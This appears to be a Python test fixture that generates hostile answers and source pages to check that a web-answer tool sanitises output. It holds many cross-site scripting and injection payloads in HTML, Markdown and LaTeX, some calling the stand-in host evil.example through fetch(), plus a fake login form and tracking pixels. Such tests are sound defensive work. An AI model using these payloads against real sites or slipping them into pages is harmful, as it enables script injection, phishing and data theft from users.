"""A hundred answers that try to run a script, to load something, to lead away, or to look like the page itself."""

from dataclasses import replace

from tests.page.scripted import TAI, Script
from tools.page import Webpage

EVIL = "http://evil.example"
RUN = f"window.pwned=1;fetch('{EVIL}/run')"
MARKUP = (
    f"<script>{RUN}</script>",
    f"<script src={EVIL}/a.js></script>",
    f'<img src=x onerror="{RUN}">',
    f"<img src={EVIL}/pixel.png>",
    f'<svg onload="{RUN}"><script>{RUN}</script></svg>',
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}">',
    f"<form action={EVIL}><input name=key autofocus><button>Log in</button></form>",
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    f"<iframe src={EVIL}></iframe>",
    f"<object data={EVIL}></object><embed src={EVIL}>",
    f"<link rel=stylesheet href={EVIL}/a.css><style>@import '{EVIL}/b.css';body{{background:url({EVIL}/c)}}</style>",
    f'<div style="position:fixed;inset:0;background:url({EVIL}/d)">Log in again</div>',
    f"<base href={EVIL}/><meta http-equiv=refresh content='0;url={EVIL}'>",
    f'<a href="javascript:{RUN}">more</a>',
    f'<a href="{EVIL}" ping="{EVIL}/ping" download>more</a>',
    f"<details open ontoggle={RUN}>x</details>",
    f"<video src={EVIL}/v autoplay onerror={RUN}></video><audio src={EVIL}/s>",
    f"<template><script>{RUN}</script></template><noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    "<span class=cite>1</span><button id=send>Ask</button><input id=question>",
    f"<!--><img src=x onerror={RUN}>--><![CDATA[<script>{RUN}</script>]]>",
    f"<x-card onclick={RUN} id=card data-say=lead>card</x-card>",
)
MARKDOWN = (
    f"![pixel]({EVIL}/pixel.png)",
    f"![pixel][a]\n\n[a]: {EVIL}/pixel.png",
    f"[more](javascript:{RUN})",
    "[more](JaVaScRiPt&colon;alert(1))",
    f'[more]({EVIL} "onmouseover={RUN}")',
    f"[![x]({EVIL}/x.png)]({EVIL})",
    f"<{EVIL}/auto> {EVIL}/bare www.evil.example a@evil.example",
    f"[more](data:text/html,<script>{RUN}</script>)",
    f"[citation:1]({EVIL}) [citation:99] [citation:0] [[citation:1]]({EVIL}) [a [citation:1] b]({EVIL})",
    f"```<script>{RUN}</script>\n<img src=x onerror={RUN}>",
    f'```html" onmouseover="{RUN}\nx\n```',
    f"# <img src=x onerror={RUN}>\n> <script>{RUN}</script>\n\n- [ ] <b onclick={RUN}>b</b>",
    f"| <img src=x onerror={RUN}> | b |\n|---|---|\n| ![x]({EVIL}/t.png) | [c](vbscript:x) |",
    f"$$\\href{{javascript:{RUN}}}{{x}} \\url{{{EVIL}}} \\includegraphics{{{EVIL}/k.png}}$$",
    f"\\(\\htmlStyle{{background:url({EVIL}/m)}}{{x}}\\) $\\htmlData{{onclick={RUN}}}{{x}}$",
    "$$\\def\\x{\\x\\x}\\x$$ \\[\\rule{9999em}{9999em}\\]",
    "‮txet desrever [citation:1]⁦",
    f"[more](data:text/html,<script>window.p```<script>{RUN[:20]}(](<script src={EVIL}/a.js></script>",
    "*" * 400 + "[" * 400 + "> " * 200,
)
_WRAPPED = ("{}", "A sentence with {} in it[citation:1].")
TEXTS = [wrapped.format(one) if "{}" in wrapped else one for wrapped in _WRAPPED for one in (*MARKUP, *MARKDOWN)]


def hostile_scripts() -> list[Script]:
    """82 texts, and 18 sources whose title, address, site, date and words are hostile."""
    plain = [Script(text, pages=(TAI,), piece=7) for text in TEXTS]
    addresses = (f"javascript:{RUN}", f"data:text/html,<script>{RUN}</script>", f'https://ok.example/"onclick="{RUN}')
    pages = [
        Webpage(addresses[n % 3], markup, f"Before. {markup} After.", markup, markup)
        for n, markup in enumerate(MARKUP[:18])
    ]
    sources = [
        Script(
            "A statement[citation:1].",
            pages=(page,),
            judged={1: ("supported", page.title)},
            changes=lambda answer: replace(answer, degraded=f"model_down: {MARKUP[0]}", model=MARKUP[2]),
        )
        for page in pages
    ]
    return plain + sources
